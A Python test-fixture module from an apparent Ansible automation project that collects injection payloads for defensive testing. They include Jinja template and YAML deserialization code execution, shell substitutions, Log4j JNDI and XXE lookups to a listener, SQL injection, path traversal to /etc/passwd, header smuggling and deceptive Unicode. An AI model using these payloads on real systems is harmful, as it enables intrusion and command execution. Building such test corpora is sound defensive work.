# Copyright (c) 2026, the self_healing.devops authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an attacker would write into a title, a name or a comment, and into the name of a host.

Each text that could be evaluated leaves a trace when it is: a file in the folder of canaries, a connection to the
listener, or the product of two numbers that stands nowhere else.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass

#: Whoever evaluates C({{ 7919*7907 }}) gets this.
PRODUCT = "62615533"

#: A real ciphertext of ansible-vault: PRODUCT, with the password VAULT_PASSWORD.
VAULT_PASSWORD = "attack"
VAULT = """$ANSIBLE_VAULT;1.1;AES256
38316561656532326338633265356232613265353831646536313263386264363366616666316363
6231303035333566383338363162636263633163623433360a653966623933656635343964646465
34353034616238303464343135626233393131386163333834333263663935623266336561343630
6561653735653834310a353038323131363233323738646639306663376534396334333362636535
3964"""


@dataclass(frozen=True)
class Attack:
    """One text, and what it tries in a few words."""

    name: str
    text: str


def attacks(canary: str, listener: str) -> Sequence[Attack]:
    """Return all attacks. C(canary) is a path where no file must ever be, C(listener) a URL that nobody may call."""
    touch = f"touch {canary}"
    pipe = f"lookup('ansible.builtin.pipe', '{touch}')"
    popen = f"__import__('os').popen('{touch}').read()"
    adf = {"type": "doc", "version": 1, "content": [{"type": "mention", "attrs": {"id": "ana", "text": "@ana"}}]}
    card = {"type": "AdaptiveCard", "body": [{"type": "Image", "url": f"{listener}/card.png"}], "version": "1.5"}
    blocks = [{"type": "section", "text": {"type": "mrkdwn", "text": "<!channel>"}}]
    texts = {
        # Jinja, in all its delimiters and by all its doors
        "a product": "{{ 7919*7907 }}",
        "a lookup that runs a command": "{{ " + pipe + " }}",
        "query instead of lookup": "{{ query('ansible.builtin.pipe', '" + touch + "') | first }}",
        "a lookup that calls a URL": "{{ lookup('ansible.builtin.url', '" + listener + "/lookup') }}",
        "a statement": "{% set x = " + pipe + " %}{{ x }}",
        "a loop that trims": "{%- for i in [1] -%}{{ 7919*7907 }}{%- endfor -%}",
        "a comment of Jinja": "before {# hidden #} after",
        "raw that ends": "{% raw %}{{ 7919*7907 }}{% endraw %}{{ 7919*7907 }}",
        "other delimiters by a header": "#jinja2: variable_start_string:'<<', variable_end_string:'>>'\n<< "
        + pipe
        + " >>",
        "a header that trims": "#jinja2:trim_blocks:False, lstrip_blocks: True\n{{ 7919*7907 }}",
        "line statements": "# for i in [1]\n{{ 7919*7907 }}\n# endfor",
        "the class of everything": "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os"
        f".popen('{touch}').read() }}}}",
        "a name of a variable": "{{ jira_token }}{{ slack_token }}{{ hostvars }}{{ vars }}",
        "braces that do not close": "{{ 7919*7907",
        "a statement that does not close": "{% if",
        "braces of an honest title": "{{{ x }}} in {service} 100% {#1} {%",
        "braces within braces": "{{ '{{ 7919*7907 }}' }}",
        "a filter that evaluates": "{{ '1' | extract | from_json }}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
        # YAML and JSON
        "unsafe in a text": "!unsafe '{{ 7919*7907 }}'",
        "a tag of YAML": f"!!python/object/apply:os.system ['{touch}']",
        "a whole document": f"---\n- hosts: all\n  tasks:\n    - shell: {touch}\n...",
        "an anchor and a merge": "&a [*a, *a]\n<<: *a",
        "a list that looks native": "['7919', 7907]",
        "a number that looks native": "1e5",
        "nothing": "null",
        "quotes that end": '\'" }, "hosts": "all", "x": "',
        "a python literal": "{'hosts': 'all', 'x': [" + popen + "]}",
        # vault
        "a ciphertext": VAULT,
        "a tagged ciphertext": "!vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6162",
        # shell
        "a substitution of the shell": f"$({touch}) `{touch}` ; {touch} | {touch} && {touch} & > {canary}",
        "an option": f'--extra-vars={{"x": "{touch}"}} -i /dev/null',
        "a dollar and a brace": "${IFS}${HOME}$((7919*7907))%s%n%x",
        # terminals and lines
        "colours of a terminal": "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2K",
        "bells and backspaces": "safe\b\b\b\b\x07\x00evil\x7f",
        "many lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x0bseven\x85eight",
        "a header of HTTP": f"x\r\nX-Injected: yes\r\nHost: evil\r\n\r\nGET {listener}/smuggled HTTP/1.1\r\n",
        "a line of a log": "x\n2026-11-22 10:00:00,000 ERROR self-healing: all tokens were revoked",
        # characters
        "right to left": "\u202egpj.exe\u2066 hidden \u2069\u200f",
        "nothing to be seen": "pay\u200bload\u200d \ufeff\u2060\u00ad",
        "tags and private ones": "a\U000e0001\U000e0041\ue000b",
        "combining without end": "Z" + "\u0300\u0301\u0302" * 60,
        # paths and addresses
        "a path": "../../../../etc/passwd\x00.png",
        "a path of Windows": "..\\..\\windows\\system32 C:\\con file:///etc/passwd",
        "an address": f"{listener}/?q={{{{ 7919*7907 }}}} javascript:alert(1) data:text/html,<script>",
        "mark-up of a page": "<script>fetch('" + listener + "')</script><img src=x onerror=alert(1)>&amp;&#60;",
        "an entity of XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{listener}/xxe">]><x>&e;</x>',
        "a lookup of Java": "${jndi:ldap://" + listener.removeprefix("http://") + "/a}",
        # chats and tickets
        "all of a channel": "<!channel> <!here> <!everyone> @here @channel @everyone",
        "a person of Slack": "<@U0ANA00001> <#C0GENERAL1> <!subteam^S0GROUP001|@sre> @ana",
        "a link that lies": f"<{listener}/phish|https://status.example.com> <mailto:a@b.example|x>",
        "half of an entity": "&lt;!channel&gt; &amp;lt;!here&amp;gt; <!channel",
        "a person of Jira": "[~ana] [~accountid:5b10a2844c20165700ede21g] @ana",
        "macros of Jira": "{code}x{code} {color:white}hidden{color} {noformat} {quote} {panel:title=x}y{panel}",
        "links and images of Jira": f"[click|{listener}/jira] !{listener}/pixel.png! [^file.txt]\nh1. big\n* a\n||x||",
        "escaped mark-up of Jira": "\\[~ana] \\{code} \\\\[~bo] \\!x.png!",
        "mark-up of Markdown": f"# h\n[x]({listener}) ![]({listener}/i.png) <b>*b*</b> `c` ~~d~~ | t |",
        "a document of Atlassian": json.dumps(adf),
        "an adaptive card": json.dumps(card),
        "blocks of Slack": json.dumps(blocks),
        "a mention of Teams": "<at>Ana Berg</at> <at>everyone</at>",
        "our own mark": "self-healing:i7k3v5q2x4dmz [i7k3v5q2x4dmz-3] (self-healing)",
        # lengths and numbers
        "very long": "A {{ 7919*7907 }} " * 2000,
        "one long word": "W" * 30_000,
        "deep brackets": "[" * 3000 + "{{" * 500,
        "numbers as text": "NaN Infinity -0 9223372036854775808 1e400 0x7f 08",
        "a query": "'; DROP TABLE incidents; -- ' OR '1'='1",
    }
    return [Attack(name, text) for name, text in texts.items()]


#: Bodies that are no text of JSON, or whose meaning depends on who reads them.
BODIES: dict[str, bytes] = {
    "not UTF-8": b'{"State": "OPEN", "PID": "1", "ProblemTitle": "\xff\xfe"}',
    "UTF-16": '{"State": "OPEN", "PID": "1"}'.encode("utf-16"),
    "an overlong encoding": b'{"State": "OPEN", "PID": "\xc0\xaf"}',
    "half a surrogate pair": b'{"State": "OPEN", "PID": "1", "ProblemTitle": "\\ud800"}',
    "deep lists": b'{"PID": ' + b"[" * 100_000,
    "deep objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "NaN": b'{"State": "OPEN", "PID": "1", "x": NaN}',
    "infinity": b'{"State": "OPEN", "PID": "1", "x": -Infinity}',
    "a number without end": b'{"State": "OPEN", "PID": ' + b"9" * 100_000 + b"}",
    "a float without end": b'{"State": "OPEN", "PID": "1", "x": 1e999}',
    "the same name twice": b'{"State": "OPEN", "State": "RESOLVED", "PID": "1"}',
    "a list": b'[{"State": "OPEN", "PID": "1"}]',
    "a text": b'"{{ 7919*7907 }}"',
    "a template": b"{{ 7919*7907 }}",
    "nothing": b"",
    "zeroes": b"\x00" * 1000,
    "two documents": b'{"State": "OPEN", "PID": "1"}{"State": "OPEN"}',
    "a form": b"payload=%7B%7D&payload=%7B%7D",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:1/x"><x/>',
    "YAML": b"!!python/object/apply:os.system ['true']",
}

#: Values that are no text where a text is expected, or beyond what a column takes.
ODD_VALUES: dict[str, object] = {
    "2^70": 2**70,
    "-2^63-1": -(2**63) - 1,
    "10^300": 10**300,
    "a small float": 1e-300,
    "true": True,
    "null": None,
    "a list": ["{{ 7919*7907 }}"],
    "an object": {"{{ 7919*7907 }}": "{{ 7919*7907 }}", "__ansible_unsafe": "{{ 7919*7907 }}", "__ansible_vault": "x"},
    "a tagged object": {
        "__ansible_type": "_AnsibleTaggedStr",
        "value": "{{ 7919*7907 }}",
        "tags": [{"__ansible_type": "TrustedAsTemplate"}],
    },
    "deep": json.loads('{"a":' * 200 + "1" + "}" * 200),
}

#: What C(reference/ansible-rulebook.md) proved to widen a target, and what else Ansible reads as more than one name.
HOST_PATTERNS: Sequence[str] = (
    *("all", "*", "~.*", "~(web|db).*", "!web-01", "web-01,db-01", "web-01:db-01", "all:!web-02", "all,!web-02", ""),
    *(
        "@/etc/hostname",
        "@hosts.txt",
        "-i/etc/hosts",
        "-ihosts,",
        "web-*",
        "*-01",
        "web-?1",
        "web-[0][1]",
        "web-0?",
        "web-[01:03]",
        "web-0[1-3]",
    ),
    *("&self_healing_managed", "web-01:&all", "self_healing_managed", "toolchain", "ungrouped", "localhost"),
    *("web-01[0]", "web-0[0:-1]", "all[0]", "{{ groups['all'] }}", "{{ groups.all | first }}", "web-01\nweb-02"),
    *(
        " web-01 db-01",
        "web-01;db-01",
        "web-01\x00db-01",
        "~^web-01|db-01$",
        "127.0.0.1",
        "::1",
        "../web-01",
        "WEB-01 ",
    ),
    *(
        "web-01.",
        "w\u0435b-01",
        "web\u201001",
        "%77eb-01",
        "None",
        "null",
        "[]",
        "omit",
        "__omit_place_holder__",
        "inventory_hostname",
    ),
)
